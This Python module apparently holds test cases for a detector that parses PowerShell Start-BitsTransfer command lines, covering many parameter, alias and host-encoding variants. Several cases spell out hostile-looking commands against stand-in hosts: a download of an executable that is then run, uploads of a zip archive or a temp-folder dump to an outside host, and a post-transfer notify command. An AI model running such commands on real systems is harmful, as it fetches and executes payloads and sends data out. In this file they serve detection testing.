"""Start-BitsTransfer and its module, written as they are: reference a1."""

from .case import CMD, HOST, NAMED, PLAIN, PWSH, TO, URL, Case, down, ps

ZIP = r"C:\Users\Public\data.zip"
DROP = "https://drop.example.com/in/data.zip"


def up(process, shows, **others):
    others.setdefault("direction", "upload")
    others.setdefault("sources", [ZIP])
    others.setdefault("destinations", [DROP])
    others.setdefault("host", "drop.example.com")
    return Case(process, shows, **others)


def binding():
    yield down(f"powershell Start-BitsTransfer {NAMED}", "named parameters, -Command left out")
    yield down(ps(PLAIN), "named parameters")
    yield down(ps(f"Start-BitsTransfer {URL} {TO}"), "both by position")
    yield down(ps(f"Start-BitsTransfer -Destination {TO} {URL}"), "a position skips what is named")
    yield down(ps(f"Start-BitsTransfer -Source {URL} {TO}"), "the second by position")
    yield down(ps(f"Start-BitsTransfer -Source:{URL} -Destination:'{TO}'"), "-Name:value")
    yield down(ps(f"start-bitstransfer -source {URL} -destination {TO}"), "lower case")
    yield down(ps(f"START-BITSTRANSFER -SOURCE {URL} -DESTINATION {TO}"), "upper case")
    yield down(ps(f"Start-BitsTransfer -So {URL} -Dest {TO}"), "shortest prefixes")
    yield down(ps(f"Start-BitsTransfer -Sour {URL} -Destinat {TO}"), "longer prefixes")
    yield down(ps(f'Start-BitsTransfer -Source "{URL}" -Destination "{TO}"'), "double quotes")
    yield down(ps(f"Start-BitsTransfer -Asynchronous {URL} {TO}"),
               "a switch takes no value, so the URL is positional", facts={"asynchronous": "1"})
    yield down(ps(f"{PLAIN} -Asynchronous:$true"), "a switch with its value",
               facts={"asynchronous": "1"})
    yield down(ps(f"{PLAIN} -As -Su"), "switches by prefix",
               facts={"asynchronous": "1", "suspended": "1"})
    yield down(ps(f"{PLAIN} -Asynchronous:$false"), "a switch that is off",
               facts={"asynchronous": "0"})
    yield down(ps(f"Start-BitsTransfer {URL}"), "no destination: the current directory",
               destinations=[])
    yield down(ps(f"{PLAIN} -Pri Low -Di 'Font Download' -Desc x"), "priority and names by prefix",
               facts={"job_name": "Font Download", "priority": "Low"})
    yield down(ps(f"{PLAIN} -RetryI 60 -RetryT 3600 -M 600"), "numbers",
               facts={"retry_delay": "60"})
    yield down(ps(f"{PLAIN} -TransferT Download"), "the type by prefix",
               facts={"transfer_type": "Download"})
    yield down(ps(f"{PLAIN} -ErrorAction SilentlyContinue -Verbose"), "common parameters")
    yield down(ps(f"{PLAIN} -ea 0 -wa 0"), "common parameters by alias")
    yield down(f'"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -c "{PLAIN}"', "pwsh", image=PWSH)
    yield down(ps(f"BitsTransfer\\{PLAIN}"), "module-qualified name")
    yield down(ps(f"Import-Module BitsTransfer; {PLAIN}"), "the module loaded first")
    yield down(ps(f"ipmo bitstransfer;{PLAIN}; exit"), "the module by alias, statements around")
    yield down(ps(f"try {{ {PLAIN} -ErrorAction Stop }} catch {{ exit 1 }}"), "in a try block")
    yield down(ps(f"if (-not (Test-Path {TO})) {{ {PLAIN} }}"), "in an if block")
    yield down(f'powershell -NoProfile -c "{PLAIN}', "a quote that is never closed")
    yield down("powershell.exe & {" + PLAIN + "}", "a block called, no quotes")
    yield down(ps(f"& {{ {PLAIN} }}"), "a block called, in quotes")
    yield down(ps(f"$j = {PLAIN} -Asynchronous; while ($j.JobState -ne 'Transferred') "
                  "{ sleep 5 }; Complete-BitsTransfer $j"), "the job kept in a variable")
    yield down(ps(f"[void]({PLAIN})"), "its output thrown away")
    yield down(ps(f"{PLAIN} | Out-Null"), "its output piped away")
    yield down(ps(f"$null = {PLAIN}"), "assigned to $null")


def lists_and_objects():
    two = ["https://a.example.net/1.cab", "https://a.example.net/2.cab"]
    to = [r"C:\Data\1.cab", r"C:\Data\2.cab"]
    both = {"sources": two, "destinations": to, "host": "a.example.net"}
    yield down(ps(f"Start-BitsTransfer -Source {','.join(two)} -Destination {','.join(to)}"),
               "lists pair up", **both)
    yield down(ps(f"Start-BitsTransfer -Source '{two[0]}', '{two[1]}' -Destination '{to[0]}', "
                  f"'{to[1]}'"), "lists with blanks", **both)
    yield down(ps(f"Start-BitsTransfer @('{two[0]}','{two[1]}') @('{to[0]}','{to[1]}')"),
               "lists by position", **both)
    yield down(ps(f"$p=@{{Source='{URL}';Destination='{TO}'}}; Start-BitsTransfer @p"),
               "splatting a hashtable")
    yield down(ps(f"$p=@{{}};$p.Source='{URL}';$p.Destination='{TO}';Start-BitsTransfer @p"),
               "a hashtable filled step by step")
    yield down(ps(f"$p=@{{Source='{URL}'}};$p['Destination']='{TO}';Start-BitsTransfer @p"),
               "a hashtable filled by index")
    yield down(ps(f"$a='{URL}','{TO}'; Start-BitsTransfer @a"), "splatting an array by position")
    yield down(ps(f"[pscustomobject]@{{Source='{URL}';Destination='{TO}'}} | Start-BitsTransfer"),
               "an object piped in")
    yield down(ps(f"\"Source,Destination`n{URL},{TO}\" | ConvertFrom-Csv | Start-BitsTransfer"),
               "constant CSV piped in")
    yield down(ps("Import-Csv C:\\jobs.csv | Start-BitsTransfer -TransferType Upload"),
               "a file's objects piped in: only the type is known", direction="upload",
               sources=[], destinations=[], host="")
    yield down(ps("Import-Csv C:\\jobs.csv | Start-BitsTransfer"),
               "a file's objects piped in: nothing is known", direction="unknown",
               sources=[], destinations=[], host="")
    yield down(ps("'http://files.example.com/a.exe'|%{Start-BitsTransfer $_ "
                  "'C:\\Users\\Public\\a.exe'}"), "a constant through ForEach-Object")
    yield down(ps(f"Start-BitsTransfer -Source $url -Destination {TO}"),
               "a source that can't be known", sources=["$url"], host="", direction="download")
    yield down(ps(f"Start-BitsTransfer -Source {URL} -Destination $env:PUBLIC\\a.exe"),
               "a folder by environment variable", destinations=[r"%PUBLIC%\a.exe"])
    yield down(ps(f"Start-BitsTransfer {URL} \"$env:TEMP\\a.exe\""),
               "the same in quotes", destinations=[r"%TEMP%\a.exe"])


def uploads():
    yield up(ps(f"Start-BitsTransfer -Source {ZIP} -Destination {DROP} -TransferType Upload"),
             "an upload", facts={"transfer_type": "Upload"})
    yield up(ps(f"Start-BitsTransfer {ZIP} {DROP} -TransferT upload -Pri Foreground"),
             "an upload by prefix and lower case", facts={"priority": "Foreground"})
    yield up(ps(f"Start-BitsTransfer {ZIP} {DROP} -TransferType UploadReply"),
             "an upload with a reply", direction="upload-reply")
    yield up(ps(f"Start-BitsTransfer {ZIP} \\\\203.0.113.9\\drop\\data.zip"),
             "local to share with the default type: it goes out",
             destinations=[r"\\203.0.113.9\drop\data.zip"], host="203.0.113.9")
    yield up(ps(f"Start-BitsTransfer {ZIP} \\\\dav.example.org@SSL@8443\\DavWWWRoot\\d.zip"),
             "out over WebDAV", destinations=[r"\\dav.example.org@SSL@8443\DavWWWRoot\d.zip"],
             host="dav.example.org")
    yield up(ps(f"Start-BitsTransfer -T Upload {ZIP} {DROP}"),
             "an ambiguous prefix told by its value")
    yield up(ps(f"Start-BitsTransfer -Source $env:TEMP\\l.dmp -Destination {DROP} "
                "-TransferType Upload"), "out of the temporary folder",
             sources=[r"%TEMP%\l.dmp"])
    yield down(ps(f"Start-BitsTransfer \\\\files.corp.example\\s\\i.iso D:\\i.iso"),
               "in from a share", sources=[r"\\files.corp.example\s\i.iso"],
               destinations=[r"D:\i.iso"], host="files.corp.example")
    yield down(ps(r"Start-BitsTransfer C:\a\x.txt D:\b\x.txt"), "from disk to disk",
               sources=[r"C:\a\x.txt"], destinations=[r"D:\b\x.txt"], host="")


def more_parameters():
    yield down(ps(f"{PLAIN} -Credential $c -Authentication Ntlm"), "credentials",
               facts={"has_credential": "1"})
    yield down(ps(f"{PLAIN} -UseStoredCredential Proxy"), "stored credentials",
               facts={"has_credential": "1"})
    yield down(ps(f"{PLAIN} -ProxyUsage Override -ProxyList http://proxy.example:3128 "
                  "-ProxyBypass *.example.com"), "a proxy of its own",
               facts={"has_proxy": "1"})
    yield down(ps(f"{PLAIN} -NotifyCmdLine 'C:\\Users\\Public\\a.exe' -NotifyFlags 3"),
               "a command to run afterwards", facts={"notify_command": r"C:\Users\Public\a.exe"})
    yield down(ps(f"{PLAIN} -CustomHeaders 'X-Token: 1' -CustomHeadersWriteOnly -HttpMethod POST"),
               "headers and a method", facts={"http_method": "POST"})
    yield down(ps(f"{PLAIN} -TransferPolicy Always -Dynamic -SecurityFlags 0x4"), "policies")
    yield down(ps(f"{PLAIN} -CertStoreLocation CurrentUser -CertStoreName My -CertHash 1,2,3"),
               "a client certificate")
    yield down(ps(f"{PLAIN}; Start-Process {TO}"), "run afterwards",
               facts={"executed_after": "1"})
    yield down(ps(f"{PLAIN}; & '{TO}'"), "called afterwards", facts={"executed_after": "1"})
    yield down(f'cmd.exe /c powershell -c "{PLAIN}" && {TO}', "run afterwards by cmd.exe",
               image=CMD, facts={"executed_after": "1"})


def hosts():
    def at(url, host, shows, **others):
        return down(ps(f"Start-BitsTransfer -Source '{url}' -Destination {TO}"), shows,
                    sources=[others.pop("shown", url)], host=host, **others)

    yield at("http://203.0.113.7:8080/a.exe", "203.0.113.7", "an address and a port")
    yield at("http://[2001:db8::7]/a.exe", "2001:db8::7", "an address of version 6")
    yield at("http://3405803783/a.exe", "203.0.113.7", "an address as one number")
    yield at("http://0xcb007107/a.exe", "203.0.113.7", "an address in hexadecimal")
    yield at("http://0313.0.0161.07/a.exe", "203.0.113.7", "an address in octal")
    yield at("HTTPS://CDN.Example.COM/a.exe", "cdn.example.com", "capitals")
    yield at("https://user:secret@cdn.example.com/a.exe", "cdn.example.com",
             "user information goes", shown="https://cdn.example.com/a.exe")
    yield at("https://cdn.example.com./a.exe?x=1&y=2", "cdn.example.com", "a dot and a query")
    yield at("https://b\u00fccher.example/a.exe", "xn--bcher-kva.example", "a name with umlaut")


def other_cmdlets():
    def piped(name, rest, shows, **others):
        others.setdefault("direction", "unknown")
        others.setdefault("sources", [])
        others.setdefault("destinations", [])
        others.setdefault("host", "")
        return Case(ps(f"Get-BitsTransfer -Name Updater | {name} {rest}".rstrip()), shows,
                    command=name, **others)

    yield piped("Add-BitsFile", f"-Source {URL} -Destination {TO}", "a file added to a job",
                direction="download", sources=[URL], destinations=[TO], host=HOST)
    yield Case(ps(f"$j=Get-BitsTransfer;Add-BitsFile $j {URL} {TO}"), "a file added by position",
               command="Add-BitsFile")
    yield piped("Resume-BitsTransfer", "-Asynchronous", "a job resumed",
                facts={"asynchronous": "1"})
    yield piped("Complete-BitsTransfer", "", "a job completed")
    yield piped("Set-BitsTransfer", r"-NotifyCmdLine C:\Users\Public\run.cmd",
                "a job given a command", facts={"notify_command": r"C:\Users\Public\run.cmd"})
    yield piped("Set-BitsTransfer", "-d Update -p High", "a job changed by aliases")
    yield Case(ps("Get-BitsTransfer -AllUsers | Resume-BitsTransfer"), "every user's job resumed",
               command="Resume-BitsTransfer", direction="unknown", sources=[], destinations=[],
               host="")


def aliases():
    yield down(ps(f"Set-Alias dl Start-BitsTransfer; dl {NAMED}"), "an alias", "alias")
    yield down(ps(f"sal dl Start-BitsTransfer;dl {NAMED}"), "an alias by alias", "alias")
    yield down(ps(f"New-Alias -Name dl -Value Start-BitsTransfer; dl {NAMED}"), "a new alias",
               "alias")
    yield down(ps(f"nal -Value Start-BitsTransfer -Name dl;dl {NAMED}"), "in another order",
               "alias")
    yield down(ps("function f($a,$b){Start-BitsTransfer -Source $a -Destination $b};"
                  f"f '{URL}' '{TO}'"), "a function that hands on", "alias", decoded="")
    yield down(ps("function f{param($a,$b) Start-BitsTransfer $a $b};"
                  f"f -b {TO} -a {URL}"), "a function with named parameters", "alias", decoded="")


def cases():
    for group in (binding, lists_and_objects, uploads, more_parameters, hosts, other_cmdlets,
                  aliases):
        yield from group()
